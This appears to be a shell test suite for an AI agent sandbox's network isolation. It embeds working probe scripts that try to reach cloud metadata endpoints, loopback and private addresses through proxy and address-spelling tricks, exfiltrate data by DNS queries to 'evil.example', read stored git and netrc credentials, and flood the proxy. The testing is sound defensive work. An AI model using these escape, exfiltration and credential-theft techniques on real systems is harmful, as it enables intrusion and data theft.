#!/bin/sh
# SPDX-License-Identifier: MIT
test_description='network: what is not listed is out of reach, whatever is tried (NW)'
. "$TEST_SRCDIR/tests/lib/net-host.sh"
. "$TEST_SRCDIR/tests/lib/test-lib.sh"
require_sandbox

mkdir -p "$HOME/p" "$HOME/aihome"
chmod 700 "$HOME/aihome"

# Something answers on every address of this host, on the ports of what listens on people's machines, by
# TCP and UDP, and on abstract sockets. What it hears is a line of `heard`. One thread, so that
# when it has heard of the end, it has heard of all before.
ports='22 23 53 80 443 631 2375 2376 3000 3128 3306 4713 5005 5037 5432 5678 5900 6000 6379 6443 7001 8888 9200'
ports="$ports 9222 9229 10250 11434 27017"
cat >canary.py <<'EOF_CANARY'
import selectors, socket, sys
ports = [int(port) for port in sys.argv[1:]]
heard = open("heard", "a", buffering=1)
wait = selectors.DefaultSelector()
def where(s):
    a = s.getsockname()
    return "%s %d" % (a[0].replace("::ffff:", ""), a[1]) if s.family != socket.AF_UNIX else a[1:].decode()
def stream(s):
    try:
        c, _ = s.accept()
        if s.family == socket.AF_UNIX and where(s) == "the-end":
            print("the end", file=heard)
        else:
            print("tcp" if s.family != socket.AF_UNIX else "abstract", where(c), file=heard)
        c.settimeout(5)
        c.sendall(b"owned\n")
        c.close()
    except OSError as e:
        print("lost", e, file=sys.stderr)
def datagram(s):
    data, addr = s.recvfrom(4096)
    print("udp", where(s), data[:60], file=heard)
    s.sendto(b"owned\n", addr)
for port in ports:
    for kind, act in (socket.SOCK_STREAM, stream), (socket.SOCK_DGRAM, datagram):
        s = socket.socket(socket.AF_INET6, kind)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("::", port))
        if kind == socket.SOCK_STREAM:
            s.listen(512)
        wait.register(s, selectors.EVENT_READ, act)
for name in "/tmp/.X11-unix/X0", "/tmp/dbus-canary", "canary", "the-end":
    s = socket.socket(socket.AF_UNIX)
    s.bind("\0" + name)
    s.listen(64)
    wait.register(s, selectors.EVENT_READ, stream)
open("canary.ready", "w").close()
while True:
    for key, _ in wait.select():
        key.data(key.fileobj)
EOF_CANARY
# shellcheck disable=SC2086 # as words
python3 canary.py $ports 2>canary.err &
canary=$!
trap 'kill $canary' EXIT
test_wait_for 'test -e "$HOME/canary.ready"' || exit 1

# all_heard: everything that reached the host since the last time. Where that is not known it fails, and
# says something, so that it is not taken for nothing.
all_heard() {
	if python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("\0the-end"); s.recv(9)' &&
	test_wait_for 'grep -qx "the end" "$HOME/heard"'; then
		grep -vx 'the end' "$HOME/heard" | sort -u
		: >"$HOME/heard"
	else
		echo "what was heard is not known"
		return 1
	fi
}

# A name under a listed wildcard is looked up on the host, and nothing else is.
not_looked_up() {
	grep -v "^udp :: 53 .*xn--n3h.x04wild.x07example.x03net" "$1"
}

# What is tried inside. Prints what was reached.
cat >"$HOME/p/attack.py" <<'EOF_ATTACK'
import socket, struct, sys
ports = [int(port) for port in sys.argv[1:]]
v4 = ["127.0.0.1", "127.0.0.2", "0.0.0.0", "192.0.2.10", "10.1.2.3", "169.254.169.254", "100.100.100.200",
      "168.63.129.16", "10.0.2.2", "192.168.1.1", "8.8.8.8", "255.255.255.255", "198.51.100.5"]
v6 = ["::1", "2001:db8::10", "::ffff:127.0.0.1", "::ffff:192.0.2.10", "::", "fd00:ec2::254", "64:ff9b::a9fe:a9fe",
      "2001:4860:4860::8888", "2001:db8:5::5"]
names = ["localhost", "web.example.org", "db.example.org", "private.example.org", "rebound.example.org",
         "meta.example.org", "metadata.google.internal", "host.docker.internal", "a.wild.example.net",
         "own.example.org", "own6.example.org"]
reached = set()
def tcp(family, addr, port):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(20)
    try:
        s.connect((addr, port))
        if s.recv(9).startswith(b"owned"):
            reached.add("tcp %s %d" % (addr, port))
    except OSError:
        pass
    s.close()
def udp(family, addr, port):
    s = socket.socket(family, socket.SOCK_DGRAM)
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6tunnel\4evil\7example\0\0\x10\0\1", (addr, port))
    except OSError:
        pass
    return s
def proxied(ask):
    try:
        s = socket.create_connection(("127.0.0.53", 3128), 20)
        s.sendall(ask)
        got = b""
        while True:
            some = s.recv(4096)
            if not some:
                break
            got += some
        return b"owned" in got
    except OSError:
        return False
keep = []
for port in ports:
    for a in v4:
        tcp(socket.AF_INET, a, port)
        keep.append(udp(socket.AF_INET, a, port))
    for a in v6:
        tcp(socket.AF_INET6, a, port)
        keep.append(udp(socket.AF_INET6, a, port))
    if len(keep) > 400:
        keep.clear()
for name in names:
    for port in 80, 443, 7001:
        try:
            for family, kind, _, _, a in set(socket.getaddrinfo(name, port, type=socket.SOCK_STREAM)):
                tcp(family, a[0], port)
        except OSError:
            pass
for port in 22, 80, 443, 7001:
    for host in v4 + ["[%s]" % a for a in v6] + names + ["127.1", "2130706433", "0x7f000001", "0177.0.0.1",
            "private.wild.example.net", "own.wild.example.net", "rebound.wild.example.net", "meta.wild.example.net",
            "x.web.example.org", "a.wild.example.net.", "wild.example.net", "web.example.org@127.0.0.1",
            "127.0.0.1#.wild.example.net", "127.0.0.1\0.wild.example.net", "[::ffff:127.0.0.1]",
            "xn--n3h.wild.example.net"]:
        h = host.encode()
        asks = [b"CONNECT %s:%d HTTP/1.1\r\nHost: web.example.org:443\r\n\r\n" % (h, port),
                b"GET http://%s:%d/ HTTP/1.1\r\nHost: web.example.org\r\n\r\n" % (h, port),
                b"\5\1\0\5\1\0\3" + bytes([len(h)]) + h + struct.pack("!H", port),
                b"\4\1" + struct.pack("!H", port) + b"\0\0\0\1\0" + h + b"\0"]
        for i, ask in enumerate(asks):
            if proxied(ask):
                reached.add("proxy%d %s %d" % (i, host, port))
for a in v4:
    ip = socket.inet_aton(a)
    if proxied(b"\5\1\0\5\1\0\1" + ip + b"\0\x50") or proxied(b"\4\1\0\x50" + ip + b"\0"):
        reached.add("proxy5 %s 80" % a)
for name in "/tmp/.X11-unix/X0", "/tmp/dbus-canary", "canary":
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect("\0" + name)
        if s.recv(9).startswith(b"owned"):
            reached.add("abstract " + name)
    except OSError:
        pass
from socket import AF_INET, AF_INET6, AF_PACKET, AF_VSOCK, SOCK_DGRAM, SOCK_RAW, SOCK_STREAM
for family, kind, proto in ((AF_INET, SOCK_RAW, 255), (AF_INET, SOCK_RAW, 1), (AF_INET6, SOCK_RAW, 58),
        (AF_PACKET, SOCK_RAW, 3), (AF_INET, SOCK_DGRAM, 1), (AF_VSOCK, SOCK_STREAM, 0), (AF_INET, SOCK_STREAM, 132),
        (AF_INET, SOCK_STREAM, 262)):
    try:
        s = socket.socket(family, kind, proto)
        if kind == socket.SOCK_RAW or family == socket.AF_VSOCK:
            reached.add("raw %d %d" % (family, proto))
        elif kind == socket.SOCK_DGRAM:
            s.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("192.0.2.10", 0))
        else:
            s.settimeout(5)
            s.connect(("192.0.2.10", 80))
            if s.recv(9).startswith(b"owned"):
                reached.add("protocol %d" % proto)
    except OSError:
        pass
for r in sorted(reached):
    print(r)
EOF_ATTACK
cat >"$HOME/p/serve.py" <<'EOF_SERVE'
import socket, sys
s = socket.socket(socket.AF_INET6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
s.bind(("::", int(sys.argv[1])))
s.listen(64)
open("ready", "w").close()
while True:
    c, _ = s.accept()
    c.sendall(b"inside\n")
    c.close()
EOF_SERVE
cd "$HOME/p" &&
git init -q . &&
test_commit base
cd "$TRASH" || exit 1
: >"$HOME/heard"

# in_session OPTIONS -- COMMAND...
in_session() {
	(cd "$HOME/p" && timeout 300 git agent start -q "$@")
}
# attack OPTIONS: what it reached is in `out`, what the host heard in `heard`
attack() {
	in_session "$@" -- python3 attack.py $ports >out 2>err &&
	all_heard >heard &&
	cat out heard
}
# only_heard LINE...: what the host heard, but for names under the listed wildcard
only_heard() {
	not_looked_up heard | sort >got
	printf '%s\n' "$@" | sort | test_cmp - got
}

test_that 'with the network of the host the attack reaches all that it tries' '
	attack --network host &&
	for what in "tcp 127.0.0.1 5432" "tcp ::1 22" "tcp 169.254.169.254 80" "tcp 10.1.2.3 7001" \
		"tcp ::ffff:127.0.0.1 631" "tcp 2001:db8::10 9229" "tcp 0.0.0.0 80"; do
		grep -Fx "$what" out || exit 1
	done &&
	grep "^udp .* 53 .*tunnel" heard &&
	grep "^tcp 100.100.100.200 443" heard
'

test_that 'NW-01: without a network nothing is reached' '
	attack --no-network &&
	test ! -s out &&
	test ! -s heard
'

test_that 'NW-04: an empty list allows nothing' '
	attack --network allow &&
	test ! -s out &&
	test ! -s heard
'

test_that 'NW-02 NW-03 NW-04 NW-05: only what is listed is reached, by any spelling, protocol or name' '
	attack --allow web.example.org:443 --allow "*.wild.example.net:443" --allow localhost:7001 &&
	! not_looked_up heard | grep -vx -e "tcp 192.0.2.10 443" -e "tcp 127.0.0.1 7001" -e "tcp ::1 7001" &&
	grep -qx "tcp 192.0.2.10 443" heard &&
	grep -qx "tcp 127.0.0.1 7001" heard &&
	grep -aq "^proxy0 a.wild.example.net 443" out &&
	grep -aq "^proxy2 web.example.org 443" out &&
		# by what names it was reached
	! grep -av -e " 443$" -e " 7001$" out &&
	! grep -a " 443$" out |
		grep -av -e "^proxy[0-3] web.example.org 443" -e "^proxy[0-3] a.wild.example.net\.* 443" \
			-e "^tcp 127.64.0.2 443" -e "^tcp fd67:6974:6167::2 443"
'

test_that 'NW-02 NW-03 NW-04: a listed name leads to no address of this machine or of its link' '
	attack --allow rebound.example.org:80 --allow meta.example.org:80 --allow "*.wild.example.net:80" \
		--allow own.example.org:80 --allow own6.example.org:80 &&
	only_heard "tcp 192.0.2.10 80"
'

test_that 'NW-02 NW-03: a name may lead into a private network where it is listed, a wildcard may not' '
	attack --allow private.example.org:80 --allow "*.wild.example.net:443" &&
	only_heard "tcp 10.1.2.3 80" "tcp 192.0.2.10 443"
'

test_that 'NW-03: an address that is listed as such is reached, also by a listed name' '
	attack --allow 169.254.169.254:80 --allow "[::1]:22" --allow own.example.org:80 --allow 198.51.100.5:80 &&
	only_heard "tcp 169.254.169.254 80" "tcp ::1 22" "tcp 198.51.100.5 80" &&
	grep -aq "^proxy0 own.example.org 80" out
'

test_that 'NW-03: a connection that is refused for its address is shown with the option that allows it' '
	in_session --name own --allow own.example.org:80 -- python3 -c "
import socket
try:
    print(socket.create_connection((\"own.example.org\", 80), 20).recv(9))
except ConnectionResetError:
    print(\"reset\")" >out &&
	echo reset | test_cmp - out &&
	test_shows "\"how\":\"forbidden\",\"to\":\"own.example.org:80\"" \
		git -C "$HOME/p" agent show --journal --json own &&
	git -C "$HOME/p" agent show own >shown &&
	grep "^  allowed, and refused for the address it leads to: own.example.org:80; only with --allow ADDR" shown &&
	! grep -e "--allow own" shown &&
	git -C "$HOME/p" agent show --json own | python3 -c "
import json, sys
n = json.load(sys.stdin)[\"network\"]
assert n[\"refused\"] == [] and [r[\"to\"] for r in n[\"forbidden\"]] == [\"own.example.org:80\"], n"
'

cat >"$HOME/aihome/ask.py" <<'EOF_ASK'
import socket, struct
for i in range(200):
    try:
        socket.getaddrinfo("%d-secret.evil.example" % i, 80)
    except OSError:
        pass
mine = b"\x3f" + b"a" * 63 + b"\0\0\1\0\1"
for tcp in False, True:
    for what in (b"\6secret\4evil\7example\0\0\x10\0\1", b"\xc0\x0c\0\x10\0\1",
                 b"\6secret\4wild\7example\3net\0\0\x10\0\1", mine):
        q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + what
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
        s.settimeout(60)
        s.connect(("127.0.0.53", 53))
        s.sendall(struct.pack("!H", len(q)) * tcp + q)
        r = s.recv(600)[2 * tcp:]
        assert r[:2] == q[:2] and r[3] & 15 in (0, 1, 3) and r[6:8] in (b"\0\0", b"\0\1"), r
        # of the one name of these that is asked for its address, one of our own
        assert (r[7] == 1) == (what == mine), r
        assert not r[7] or r[-4:-2] == b"\x7f\x40", r
print("all answered")
EOF_ASK

test_that 'NW-05: no query for a name that is not listed leaves the sandbox' '
	in_session --allow web.example.org:443 --allow "*.wild.example.net:443" -- python3 "$HOME/ask.py" >out &&
	grep "all answered" out &&
	all_heard >heard &&
	cat heard &&
	test ! -s heard
'

# A forge that asks for a token. What it hears is a line of `asked`: the path, and the token that came with it.
cat >forge.py <<'EOF_FORGE'
import base64
from http.server import BaseHTTPRequestHandler, HTTPServer
class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        auth = self.headers.get("Authorization", "")
        token = base64.b64decode(auth[6:]).decode() if auth.startswith("Basic ") else auth
        with open("asked", "a") as f:
            print(self.path, token or "-", file=f)
        self.send_response(403 if token else 401)
        self.send_header("WWW-Authenticate", 'Basic realm="forge"')
        self.send_header("Content-Length", "0")
        self.end_headers()
    def log_message(self, *args):
        pass
s = HTTPServer(("192.0.2.10", 8080), Handler)
open("forge.ready", "w").close()
s.serve_forever()
EOF_FORGE

test_that 'NW-06: a host that is listed is asked without the keys of the user, and that is logged' '
	{ python3 forge.py & } &&
	forge=$! &&
	test_when_finished "kill $forge; rm -f \"$HOME/.git-credentials\" \"$HOME/.netrc\"" &&
	test_when_finished "git config --global --unset credential.helper" &&
	test_wait_for "test -e forge.ready" &&
	at=git.example.org:8080 &&
		# all the ways in which the user has the key
	git config --global credential.helper store &&
	echo "http://user:user-token@$at" >"$HOME/.git-credentials" &&
	printf "machine git.example.org login user password user-token\n" >"$HOME/.netrc" &&
	chmod 600 "$HOME/.netrc" "$HOME/.git-credentials" &&
	export GH_TOKEN=user-token GITHUB_TOKEN=user-token &&
	export GIT_ASKPASS="$TRASH/askpass" SSH_AUTH_SOCK="$TRASH/agent.sock" &&
	test_script askpass "echo user-token" &&
	test_must_fail git -C "$HOME/p" push -q "http://$at/user/r.git" HEAD &&
	grep "git-receive-pack.* user:user-token\$" asked &&
	: >asked &&
	in_session --name forge --allow $at -- sh -c "
		export GIT_TERMINAL_PROMPT=0
		git push http://$at/user/r.git HEAD
		curl -s --netrc http://$at/curl
		env | grep user-token
		cat ~/.netrc ~/.git-credentials \"$TRASH/askpass\"
		test -S \"$TRASH/agent.sock\" && echo agent
		git push http://a:attacker-token@$at/attacker/r.git HEAD
		true" >out 2>err &&
	cat out err asked &&
	test ! -s out &&
	grep "^/user/.*git-receive-pack -\$" asked &&
	grep "^/attacker/.* a:attacker-token\$" asked &&
	! grep user-token asked &&
	git -C "$HOME/p" agent show --journal --json forge >journal &&
	python3 - journal $at <<-\EOT
	import json, sys
	events = map(json.loads, open(sys.argv[1]))
	last = [e for e in events if e["event"] == "network"][0]["connections"]
	assert [(c["how"], c["to"]) for c in last] == [("allowed", sys.argv[2])] and last[0]["out"] > 100, last
	EOT
'

cat >tries.py <<'EOF_TRIES'
import socket, sys
for a in "127.0.0.1", "::1", "192.0.2.10", "10.1.2.3":
    try:
        s = socket.create_connection((a, int(sys.argv[1])), 20)
        print(a, s.recv(9).decode().strip())
    except OSError:
        pass
EOF_TRIES
# served [OPTION VALUE] PORT: tries PORT of the host while something listens on port 9999 of a session
served() {
	served_port=$1
	[ $# = 1 ] || served_port=$3
	set -- ${3:+"$1" "$2"}
	in_session "$@" --name web -d -- python3 serve.py 9999 >&2 &&
	test_wait_for 'git -C "$HOME/p" agent shell web -- test -e ready' >&2 &&
	python3 tries.py "$served_port" || return 1
	git -C "$HOME/p" agent stop web >&2 &&
	git -C "$HOME/p" agent drop --force web >&2
}

test_that 'NW-07: what listens inside cannot be reached from the host' '
	for options in "--network none" "--network allow"; do
		served $options 9999 >out &&
		test ! -s out ||
			exit 1
	done &&
		# it is there to be reached
	served --network host 9999 >out &&
	test "$(grep -c inside out)" = 4
'

test_that 'NW-07: a published port is reached on 127.0.0.1 only' '
	test_settings "network:\n  mode: allow\n  publish: [\"9998:9999\"]\n" &&
	test_when_finished "rm -f \"$conf\"" &&
	served 9998 >out &&
	echo "127.0.0.1 inside" | test_cmp - out
'

cat >"$HOME/aihome/flood.py" <<'EOF_FLOOD'
import os, random, socket
random.seed(1)
at = ("127.0.0.53", 3128)
def owned():
    s = socket.create_connection(at, 60)
    s.sendall(b"CONNECT a.wild.example.net:443 HTTP/1.1\r\n\r\n")
    got = b""
    while b"owned" not in got:
        some = s.recv(4096)
        assert some, got
        got += some
    return True
waiting = [socket.create_connection(at, 60) for _ in range(300)]
for s in waiting:
    s.sendall(random.choice([b"", b"C", b"\5", b"\5\1\0", b"GET http://a", b"\4\1"]))
assert owned()
for i in range(300):
    s = socket.create_connection(at, 60)
    try:
        s.sendall(random.choice([b"", b"\5", b"\4", b"GET ", b"CONNECT "]) + os.urandom(random.randrange(3000)))
        s.sendall(b"x" * random.choice([0, 10, 70000]))
        s.shutdown(socket.SHUT_WR) if i % 2 else None
        s.close()
    except OSError:
        pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(3000):
    u.sendto(os.urandom(random.randrange(600)), ("127.0.0.53", 53))
t = [socket.create_connection(("127.0.0.53", 53), 60) for _ in range(50)]
for s in t:
    s.sendall(b"\1")
assert owned()
assert socket.gethostbyname("web.example.org") == "127.64.0.2"
s = socket.create_connection(("web.example.org", 443), 60)
assert s.recv(9) == b"owned\n"
print("still there")
EOF_FLOOD

test_that 'NW-08: junk, floods and clients that wait do not stop the proxy or the name server' '
	in_session --allow "*.wild.example.net:443" --allow web.example.org:443 -- python3 "$HOME/flood.py" >out &&
	grep "still there" out &&
	all_heard >/dev/null
'

trap - EXIT
kill $canary
test_done
